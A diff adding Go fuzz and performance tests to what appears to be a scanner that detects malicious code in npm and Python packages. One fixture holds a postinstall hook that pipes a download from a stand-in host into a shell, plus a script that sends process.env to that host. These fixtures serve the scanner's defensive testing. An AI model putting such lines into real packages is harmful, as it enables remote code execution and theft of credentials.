@@ -1,0 +1,122 @@
+package codescan
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// seedSources adds the code files of the fixtures in a language as seeds.
+func seedSources(f *testing.F, l lang) {
+	for _, kind := range []string{"malicious", "benign"} {
+		_ = filepath.WalkDir(filepath.Join("testdata", kind), func(p string, d os.DirEntry, err error) error {
+			if err != nil || d.IsDir() {
+				return err
+			}
+			data, err := os.ReadFile(p)
+			if err == nil && detectLang(p, data, false) == l {
+				f.Add(data)
+			}
+			return nil
+		})
+	}
+}
+
+func fuzzTokenizer(f *testing.F, l lang, seeds ...string) {
+	for _, s := range seeds {
+		f.Add([]byte(s))
+	}
+	seedSources(f, l)
+	rs := DefaultRules()
+	f.Fuzz(func(t *testing.T, data []byte) {
+		spans := tokenize(l, data, nil)
+		checkSpans(t, spans, len(data))
+		for p := 0; p <= len(data); p += 1 + len(data)/16 {
+			_ = contextAt(spans, p)
+		}
+		// The whole pipeline on the same bytes must not panic either.
+		name := map[lang]string{langJS: "index.js", langPython: "setup.py"}[l]
+		for _, f := range Scan(treeOf(map[string]string{name: string(data)}), rs) {
+			if f.Rule == "" || f.Evidence["location"] == nil {
+				t.Fatalf("malformed finding %+v", f)
+			}
+		}
+	})
+}
+
+func FuzzTokenizeJS(f *testing.F) {
+	fuzzTokenizer(f, langJS,
+		"`a${`b${c}`}d` / 2 /re/ 'x\\'y' \"z\" // c\n/* c */",
+		"x = a / b / c; return /[/]/g.test(s)",
+		"`${", "}`", "/*", "'\\", "`${{}}`",
+	)
+}
+
+func FuzzTokenizePython(f *testing.F) {
+	fuzzTokenizer(f, langPython,
+		"def f():\n    \"\"\"doc\"\"\"\n    return r'\\'' + f\"{x}\"  # c\n",
+		"'''", "\"\"\"\\", "x = (\n'''a'''\n)", "rb'x'", "\\\n\"\"\"",
+	)
+}
+
+func FuzzLoadRules(f *testing.F) {
+	f.Add(defaultRulesYAML)
+	f.Add([]byte("version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [abc]\n        regex: 'a(b)c'\n        also: [[xyz]]\n"))
+	f.Add([]byte("version: 1\nrules:\n  - id: b\n    title: t\n    requires: [network-send]\n    patterns:\n      - detector: entropy\n        min-length: 10\n"))
+	f.Add([]byte("version: 1\ninstall-time: ['/**']\nrules:\n  - id: cloud-metadata\n    disabled: true\n"))
+	tr := treeOf(map[string]string{
+		"package.json": `{"scripts":{"postinstall":"node i.js && curl -s https://example.invalid/x | sh"}}`,
+		"i.js":         "fetch('https://example.invalid/'+JSON.stringify(process.env)); abc xyz",
+		"setup.py":     "import os\nos.system('id')\n",
+	})
+	f.Fuzz(func(t *testing.T, data []byte) {
+		rs, err := LoadRules("fuzz.yaml", data)
+		if err != nil {
+			return
+		}
+		_ = rs.Rules()
+		_ = Scan(tr, rs)
+		d := DefaultRules()
+		d.Merge(rs)
+		_ = Scan(tr, d)
+	})
+}
+
+// TestAdversarialInputsStayFast: inputs built to defeat the tokenizers or
+// to repeat a trigger literal thousands of times cost linear time (the
+// bound is loose: it catches quadratic behaviour, not slow machines).
+func TestAdversarialInputsStayFast(t *testing.T) {
+	if testing.Short() {
+		t.Skip("scans a few MB")
+	}
+	const n = 200_000
+	inputs := map[string]string{
+		"heredocs":     strings.Repeat("x = <<A ", n/8),
+		"heredoc-line": strings.Repeat("x = <<A\n", n/8),
+		"slashes":      strings.Repeat("a /", n/3),
+		"templates":    strings.Repeat("`${", n/3),
+		"quotes":       strings.Repeat("'\"`", n/3),
+		"percent":      strings.Repeat("%q(", n/3),
+		"here-strings": strings.Repeat("@'  x", n/5),
+		"backslashes":  strings.Repeat("\\", n),
+		"eval":         strings.Repeat("eval(atob(", n/10),
+		"curl":         strings.Repeat("curl ", n/5),
+		"base64":       strings.Repeat("QUJD", n/4),
+		"escapes":      strings.Repeat("\\x41", n/4),
+		"_0x":          strings.Repeat("_0x1234 ", n/8),
+		"process.env":  strings.Repeat("JSON.stringify(process.env ", n/27),
+		"ip urls":      strings.Repeat("http://1.2.3.4 ", n/15),
+	}
+	rs := DefaultRules()
+	for name, src := range inputs {
+		for _, fn := range []string{"a.js", "a.py", "a.sh", "a.ps1", "a.rb", "a.bat", "a.targets", "a.rs"} {
+			start := time.Now()
+			Scan(treeOf(map[string]string{fn: src}), rs)
+			if d := time.Since(start); d > 2*time.Second {
+				t.Errorf("%s as %s: %v", name, fn, d)
+			}
+		}
+	}
+}
